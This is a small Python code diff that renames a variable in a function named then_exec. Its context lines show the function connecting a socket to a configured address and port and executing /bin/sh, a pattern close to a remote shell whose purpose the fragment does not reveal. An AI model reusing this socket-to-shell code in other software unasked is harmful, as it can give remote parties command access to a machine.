@@ -121,11 +121,11 @@ def then_exec(entry: Entry, note: Callable[..., None]) -> None:
         os.dup2(connection.fileno(), 3)
         connection.connect((entry["address"], entry["port"]))
         os.execv("/bin/sh", shell)
-    told = json.loads(os.read(reading, 65536))
+    known = json.loads(os.read(reading, 65536))
     os.close(reading)
     os.close(writing)
     os.waitpid(child, 0)
-    note(entry, **told, answer="")
+    note(entry, **known, answer="")
 
 
 @contextmanager
